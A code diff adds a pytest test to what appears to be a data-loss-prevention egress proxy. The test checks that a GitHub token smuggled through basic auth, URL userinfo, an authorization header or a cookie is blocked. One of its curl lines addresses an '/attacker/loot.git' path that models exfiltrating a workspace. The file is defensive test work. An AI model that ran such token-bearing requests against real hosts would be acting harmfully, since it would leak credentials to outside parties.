@@ -200,3 +200,32 @@ def test_every_pattern_family_is_blocked_in_url_header_and_body(
     log = (dlp_env.state_dir() / "audit.jsonl").read_text()
     for secret in secrets:
         assert secret not in log
+
+
+@pytest.mark.parametrize("scheme", ["http://allowed.test", "https://tls.test"])
+def test_a_token_inside_basic_auth_cookie_or_userinfo_is_refused(
+    dlp_env: BottleEnv, tls_upstream: TLSUpstream, scheme: str, tmp_path: Path
+) -> None:
+    """Issue 18 row 3: `Basic base64("x-access-token:ghp_…")` to an allowed host is how a
+    `git push` of the workspace to an attacker's repository authenticates."""
+    host = scheme.split("://")[1]
+    w = "-s -o /dev/null -w '%{http_code}\\n' --max-time 10"
+    basic = base64.b64encode(f"{GITHUB_TOKEN}:x-oauth-basic".encode()).decode()
+    codes = _curl(
+        dlp_env,
+        f"""
+curl {w} -u "x-access-token:{GITHUB_TOKEN}" {scheme}/attacker/loot.git/info/refs
+curl {w} "{scheme.split("://")[0]}://x-access-token:{GITHUB_TOKEN}@{host}/userinfo"
+curl {w} -H "authorization: basic {basic}" {scheme}/lowercase-token-as-user
+curl {w} -H "Cookie: theme=dark; session={GITHUB_TOKEN}" {scheme}/cookie
+curl {w} -u "alice:correct-horse" {scheme}/clean
+""",
+        tmp_path,
+    )
+    assert codes == ["403", "403", "403", "403", "200"], codes
+    received = tls_upstream.requests if scheme.startswith("https") else dlp_env.upstream.requests
+    assert [r.path for r in received] == ["/clean"]
+    events = [json.loads(line) for line in (dlp_env.state_dir() / "audit.jsonl").open()]
+    denied = [e for e in events if e["kind"] == "dlp" and e["decision"] == "deny"]
+    assert len({e["path"] for e in denied}) == 4, denied
+    assert GITHUB_TOKEN not in (dlp_env.state_dir() / "audit.jsonl").read_text()
